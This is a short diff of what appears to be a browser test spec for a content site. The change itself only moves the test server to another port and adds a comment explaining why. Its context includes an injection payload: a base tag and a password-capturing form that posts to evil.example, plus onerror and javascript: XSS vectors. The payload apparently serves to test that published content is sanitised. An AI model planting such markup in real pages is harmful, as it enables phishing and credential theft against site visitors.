@@ -8,7 +8,8 @@ import { sizes } from './support/visual';
 // and crawlers read product, article and service-page bodies without scripts. A server of its own (content is
 // published here), the production build, real Chromium.
 
-const PORT = 4331;
+// (A port no other spec uses: two workers start their own servers at the same time.)
+const PORT = 4337;
 const ATTACK =
   '<base href="https://evil.example/qz/"><form action="https://evil.example/qz"><input name="qzpass"><button>Kirim</button></form>' +
   '<p><img src="/favicon.svg" alt="" width="16" height="16" onerror="alert(1)"> <a href="javascript:alert(2)">tautan qz</a></p>';
